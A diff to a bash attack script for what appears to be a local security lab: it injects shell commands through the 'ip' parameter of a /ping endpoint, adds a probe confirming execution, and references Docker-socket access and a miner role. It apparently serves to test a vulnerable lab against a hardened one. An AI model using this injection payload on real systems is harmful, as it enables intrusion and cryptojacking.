@@ -27,7 +27,7 @@ set -euo pipefail
 kRoot="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
 readonly kRoot
 readonly kUrl="${LAB_URL:-http://127.0.0.1:15000}"
-readonly kProject=bulwark-lab
+readonly kProject="${LAB_PROJECT:-bulwark-lab}"  # bulwark-lab-hardened: the same attack on the fixed lab
 readonly kMinerLabel=bulwark-lab.role=miner
 max_seconds=90
 stop=0
@@ -68,7 +68,16 @@ if (( miners )) && ! docker exec "${web}" test -S /var/run/docker.sock; then
 fi
 
 # Inject COMMAND: runs it through /ping's shell, as the app's user.
-Inject() { curl -sS -m 30 --get --data-urlencode "ip=127.0.0.1 -c 1 -W 1 >/dev/null; $1" "${kUrl}/ping"; }
+Inject() { curl -sS -m 30 --get --data-urlencode "ip=127.0.0.1 -c 1 -W 1 >/dev/null; $1" "${@:2}" "${kUrl}/ping"; }
+
+# First, does the injection work at all? The probe's marker appears only
+# when the shell ran it ($((6*7)) expanded), not when the app echoes input.
+probe="$(Inject 'echo bulwark-probe-$((6*7))' -w ' HTTP %{http_code}' 2>&1 || true)"
+if ! grep -q 'bulwark-probe-42' <<<"${probe}"; then
+  Say "the injection was refused: ${kUrl}/ping answered $(tail -c 200 <<<"${probe}" | tr '\n' ' ')"
+  Say "nothing was uploaded or run"
+  exit 3
+fi
 
 work="$(mktemp -d /tmp/bulwark-attack.XXXXXX)"
 trap 'rm -rf "${work}"' EXIT
